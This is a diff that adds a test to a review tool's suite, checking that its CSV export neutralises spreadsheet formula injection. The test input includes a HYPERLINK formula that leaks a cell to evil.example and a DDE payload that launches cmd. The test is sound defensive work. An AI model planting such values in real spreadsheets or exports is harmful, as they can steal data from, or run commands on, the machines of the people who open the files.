@@ -625,3 +625,29 @@ def test_browser_form_posted_from_another_port_is_refused(run_dir, live, tmp_pat
         driver.quit()
         attacker.shutdown()
     assert [(r["example_id"], r["reviewer"]) for r in _rows(run_dir)] == [(first, "ann")]
+
+
+def test_ratings_csv_export_never_holds_a_formula(run_dir, live):
+    """Notes and spans that a spreadsheet would run (=, +, -, @) are exported as text: the CSV
+    cell gets a leading apostrophe; the JSONL export keeps the exact text."""
+    from sftflow.review.store import to_csv
+
+    ann, csrf = _login(live, "ann")
+    hostile = {"a_note": '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "b_note": "+1+cmd|' /C calc'!A0",
+               "a_span": "@SUM(A1:A9)", "b_span": "-2+3"}
+    r = ann.post(f"/review/{_ids(run_dir)[0]}", data={**FULL_FORM, **hostile, "csrf": csrf}, headers={"Origin": live})
+    assert r.status_code == 303, r.text[-300:]
+    exported = ann.get("/export/ratings.csv")
+    (row,) = list(csv.DictReader(io.StringIO(exported.text)))
+    (raw,) = [json.loads(line) for line in ann.get("/export/ratings.jsonl").text.splitlines()]
+    ann.close()
+    a, b = raw["a_model"], "base" if raw["a_model"] == "tuned" else "tuned"
+    expected = {f"{a}_note": hostile["a_note"], f"{b}_note": hostile["b_note"], f"{a}_span": hostile["a_span"],
+                f"{b}_span": hostile["b_span"]}
+    for column, text in expected.items():
+        assert raw[column] == text and row[column] == "'" + text, column
+    assert not [v for v in row.values() if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert row[f"{a}_coherence"] == "4"  # numbers stay numbers
+    # tab and carriage return can start a formula too (notes typed in the page are stripped, so straight to the store)
+    (tab, cr) = list(csv.DictReader(io.StringIO(to_csv([{**raw, "tuned_note": "\t=1+1"}, {**raw, "tuned_note": "\r=1+1"}]))))
+    assert tab["tuned_note"] == "'\t=1+1" and cr["tuned_note"] == "'\r=1+1"
